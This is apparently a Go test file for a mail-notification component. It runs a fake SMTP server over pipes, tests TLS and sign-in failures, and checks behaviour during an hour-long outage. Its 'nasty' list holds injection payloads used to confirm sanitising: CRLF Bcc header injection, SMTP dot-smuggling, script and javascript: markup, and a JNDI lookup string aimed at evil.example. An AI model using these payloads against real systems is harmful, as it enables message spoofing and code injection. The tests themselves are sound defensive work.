package notify

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/big"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net"
	netmail "net/mail"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"stint/internal/access"
)

// postOffice is an SMTP server (RFC 5321, 3207, 4954) on pipes.
type postOffice struct {
	t     *testing.T
	cert  tls.Certificate
	roots *x509.CertPool

	mu        sync.Mutex
	down      bool
	noTLS     bool
	implicit  bool
	login     string // "user\x00password"; empty: none is asked for
	answers   map[string]string
	mails     []string
	plain     int // MAIL commands without TLS
	dials     int
	dialledTo []string
}

// selfSigned is a certificate of a host, and the pool that trusts it.
func selfSigned(t *testing.T, host string) (tls.Certificate, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	form := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(100 * time.Hour), DNSNames: []string{host}, IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, form, form, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AddCert(leaf)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, roots
}

func newPostOffice(t *testing.T) *postOffice {
	t.Helper()
	cert, roots := selfSigned(t, "mail.example")
	p := &postOffice{t: t, cert: cert, roots: roots, answers: map[string]string{}}
	return p
}

func (p *postOffice) dial(_ context.Context, _, address string) (net.Conn, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.dials++
	p.dialledTo = append(p.dialledTo, address)
	if p.down {
		return nil, errors.New("connection refused")
	}
	here, there := net.Pipe()
	go p.serve(there)
	return here, nil
}

func (p *postOffice) serve(conn net.Conn) {
	defer func(raw net.Conn) { _ = raw.Close() }(conn) // on a pipe, a farewell over TLS waits for somebody who reads it
	secure, known := false, p.login == ""
	if p.implicit {
		conn, secure = tls.Server(conn, &tls.Config{Certificates: []tls.Certificate{p.cert}}), true
	}
	r := bufio.NewReader(conn)
	say := func(s string) { _, _ = io.WriteString(conn, s+"\r\n") }
	say("220 mail.example")
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		line = strings.TrimRight(line, "\r\n")
		verb, rest, _ := strings.Cut(line, " ")
		if a := p.answers[strings.ToUpper(verb)]; a != "" {
			say(a)
			continue
		}
		switch strings.ToUpper(verb) {
		case "EHLO":
			ext := "250-mail.example\r\n"
			if !secure && !p.noTLS {
				ext += "250-STARTTLS\r\n"
			}
			if p.login != "" {
				ext += "250-AUTH PLAIN\r\n"
			}
			say(ext + "250 8BITMIME")
		case "STARTTLS":
			say("220 go")
			conn = tls.Server(conn, &tls.Config{Certificates: []tls.Certificate{p.cert}})
			r, secure = bufio.NewReader(conn), true
		case "AUTH":
			b, _ := base64.StdEncoding.DecodeString(strings.TrimPrefix(rest, "PLAIN "))
			if known = string(b) == "\x00"+p.login; known {
				say("235 welcome")
			} else {
				say("535 no")
			}
		case "MAIL":
			if !secure {
				p.mu.Lock()
				p.plain++
				p.mu.Unlock()
			}
			if known {
				say("250 ok")
			} else {
				say("530 who are you")
			}
		case "RCPT":
			say("250 ok")
		case "DATA":
			say("354 go")
			var b strings.Builder
			for {
				l, err := r.ReadString('\n')
				if err != nil {
					return
				}
				if l == ".\r\n" {
					break
				}
				b.WriteString(strings.TrimPrefix(l, "."))
			}
			if a := p.answers["."]; a != "" {
				say(a)
				continue
			}
			p.mu.Lock()
			p.mails = append(p.mails, b.String())
			p.mu.Unlock()
			say("250 taken")
		case "QUIT":
			say("221 bye")
			return
		default:
			say("500 what")
		}
	}
}

func (h *house) mailTo(p *postOffice, address string) (*Service, Integration) {
	s := h.service(newWire(), "a")
	s.Dial, s.TLS = p.dial, func(server string) *tls.Config {
		return &tls.Config{RootCAs: p.roots, ServerName: server, MinVersion: tls.VersionTLS12}
	}
	i := Integration{Name: "ops-mail", Type: Mail, Address: address, Options: map[string]string{"events": "requests,troubles", "from": "stint@example.com", "to": "dba@example.com,ops@example.com"}}
	h.integrations = []Integration{i}
	return s, i
}

// TestMailHourDown: while the mail server is down for an hour, requests come, are
// decided and end; then each has one mail that says how it stands, in a thread.
func TestMailHourDown(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h, p := newHouse(t), newPostOffice(t)
		s, _ := h.mailTo(p, "smtp://mail.example")
		s.HTTP = nil
		h.log(access.Event{Type: "documents.applied", Entity: "documents"})
		stop := start(s)
		time.Sleep(2 * time.Second)
		before := h.ask(1)
		time.Sleep(5 * time.Second)
		p.mu.Lock()
		p.down = true
		if len(p.mails) != 1 {
			t.Fatalf("%d mails", len(p.mails))
		}
		p.mu.Unlock()
		h.change(before, access.RequestApproved, approved)
		for i := 2; i < 22; i++ {
			id := h.ask(i)
			time.Sleep(time.Minute)
			if i%2 == 0 {
				h.change(id, access.RequestDenied, denied)
			}
			time.Sleep(2 * time.Minute)
		}
		p.mu.Lock()
		p.down = false
		if p.dials > 30 {
			t.Errorf("%d attempts in an hour", p.dials)
		}
		p.mu.Unlock()
		time.Sleep(mostWait)
		stop()
		ids := map[string]bool{}
		subjects := map[string]int{}
		for _, text := range p.mails {
			m, err := netmail.ReadMessage(strings.NewReader(text))
			if err != nil {
				t.Fatal(err)
			}
			ids[m.Header.Get("Message-ID")] = true
			subject, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
			if err != nil {
				t.Fatal(err)
			}
			subjects[strings.Fields(subject)[0]]++
		}
		if len(p.mails) != 22 || len(ids) != 22 || subjects["Approve?"] != 11 || subjects["Re:"] != 1 || subjects["mira:"] != 10 {
			t.Errorf("%d mails, %d ids, subjects %v", len(p.mails), len(ids), subjects)
		}
		if p.plain != 0 {
			t.Error("mail went out without TLS")
		}
	})
}

// TestMailServer: TLS either way, signing in, and what is refused.
func TestMailServer(t *testing.T) {
	for name, c := range map[string]struct {
		bend    func(*postOffice)
		address string
		secret  string
		want    string // part of the error; empty: sent
	}{
		"STARTTLS":                {nil, "smtp://mail.example:587", "", ""},
		"no STARTTLS":             {func(p *postOffice) { p.noTLS = true }, "smtp://mail.example", "", "offers no STARTTLS"},
		"TLS at once":             {func(p *postOffice) { p.implicit = true }, "smtps://mail.example", "", ""},
		"a certificate of others": {func(p *postOffice) { p.roots = x509.NewCertPool() }, "smtp://mail.example", "", "certificate"},
		"another name":            {nil, "smtp://other.example", "", "certificate"},
		"signed in":               {func(p *postOffice) { p.login = "stint\x00pw" }, "smtp://mail.example", "pw\n", ""},
		"a wrong password":        {func(p *postOffice) { p.login = "stint\x00other" }, "smtp://mail.example", "pw", "sign in: the mail server answers 535"},
		"no room":                 {func(p *postOffice) { p.answers["MAIL"] = "452 <script>no room" }, "smtp://mail.example", "", "the mail server answers 452"},
		"this mail not":           {func(p *postOffice) { p.answers["."] = "554 spam" }, "smtp://mail.example", "", "the mail server answers 554"},
	} {
		t.Run(name, func(t *testing.T) {
			h, p := newHouse(t), newPostOffice(t)
			if c.bend != nil {
				c.bend(p)
			}
			s, i := h.mailTo(p, c.address)
			if c.secret != "" {
				i.Credential, h.logins["ops-mail"] = "ops-mail", Login{"stint", access.NewSecret([]byte(c.secret))}
			}
			ch, _, err := newMail(s, i)
			if err != nil {
				t.Fatal(err)
			}
			sent, err := ch.Send(t.Context(), OfRequest(s.Site, sample(1), nil), Sent{})
			switch {
			case c.want == "" && (err != nil || sent.Parts != 1 || len(p.mails) != 1):
				t.Errorf("%d mails, %+v, %v", len(p.mails), sent, err)
			case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want) || len(p.mails) != 0):
				t.Errorf("%d mails, %v", len(p.mails), err)
			}
			var refused *Refused
			if errors.As(err, &refused) != (name == "this mail not") {
				t.Errorf("refused: %v", err)
			}
			if p.plain > 0 {
				t.Error("mail went out without TLS")
			}
		})
	}
}

// nasty is what people might write to make a message say something else.
var nasty = []string{
	"x\r\nBcc: evil@example.com\r\n\r\nhello", "x\nContent-Type: text/html\n\n<script>alert(1)</script>", "a\r\n.\r\nMAIL FROM:<evil@example.com>\r\n", "\r\n.\r\n", ".", "..",
	"<img src=https://evil.example/x.png>", "<a href='javascript:alert(1)'>click</a>", "*bold* _it_ `code` <https://evil.example|Approve> <!channel> <@U123> &lt;", "[click](https://evil.example)",
	"\u202egnp.exe", "a\u0000b", "=?utf-8?q?=0d=0aBcc:_evil@example.com?=", "--stint-000\r\nContent-Type: text/html\r\n\r\nx", strings.Repeat("ä", 5000), "{{.Secret}} ${jndi:ldap://evil.example/a}", "\"}],\"actions\":[{\"type\":\"Action.OpenUrl\"}",
}

// TestMailInjection: whatever people write stays where it stands: no header, no part,
// no markup, no second mail comes of it.
func TestMailInjection(t *testing.T) {
	site := Site{URL: "https://stint.example.com", Requests: "https://stint.example.com/requests/", Installation: "test"}
	for _, text := range nasty {
		r := sample(1)
		r.Reason, r.Ticket, r.Role = text, text, access.RoleName(text)
		denied(&r)
		r.Approvals[0].Note = text
		raw, err := letter(site, "ops-mail", OfRequest(site, r, nil), "stint@example.com", []string{"dba@example.com"}, 1)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(bytes.ReplaceAll(raw, []byte("\r\n"), nil), []byte("\n")) {
			t.Errorf("%q: a bare line feed", text)
		}
		m, err := netmail.ReadMessage(bytes.NewReader(raw))
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		want := []string{"Auto-Submitted", "Content-Type", "Date", "From", "In-Reply-To", "Message-Id", "Mime-Version", "References", "Subject", "To"}
		if got := slices.Sorted(maps.Keys(m.Header)); !slices.Equal(got, want) {
			t.Errorf("%q: headers %v", text, got)
		}
		parts := partsOf(t, m)
		if len(parts) != 2 {
			t.Fatalf("%q: %d parts", text, len(parts))
		}
		for _, bad := range []string{"<script", "<img", "<a href='", "href=\"javascript"} {
			if strings.Contains(parts[1], bad) {
				t.Errorf("%q: the page holds %s", text, bad)
			}
		}
		if n := strings.Count(parts[1], "<a "); n != 1 {
			t.Errorf("%q: %d links", text, n)
		}
		if strings.ContainsAny(parts[0]+parts[1], "\u202e\u0000") {
			t.Errorf("%q: what does not print is there", text)
		}
	}
}

func partsOf(t *testing.T, m *netmail.Message) (parts []string) {
	t.Helper()
	_, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
	if err != nil {
		t.Fatal(err)
	}
	r := multipart.NewReader(m.Body, params["boundary"])
	for {
		p, err := r.NextRawPart()
		if errors.Is(err, io.EOF) {
			return parts
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(quotedprintable.NewReader(p))
		if err != nil {
			t.Fatal(err)
		}
		parts = append(parts, string(b))
	}
}

// TestMailLinks: no link in a mail does anything: it leads to a page, by GET.
func TestMailLinks(t *testing.T) {
	site := Site{URL: "https://stint.example.com", Requests: "https://stint.example.com/requests/", Installation: "test"}
	m := OfRequest(site, sample(1), nil)
	if text := page(m, ""); strings.Count(text, "http") != 1 || !strings.Contains(text, fmt.Sprintf(`<a href="https://stint.example.com/requests/%s">`, m.Subject)) || strings.Contains(text, m.Vote) {
		t.Errorf("the page holds more than one plain link, or the digest to vote with:\n%s", text)
	}
}
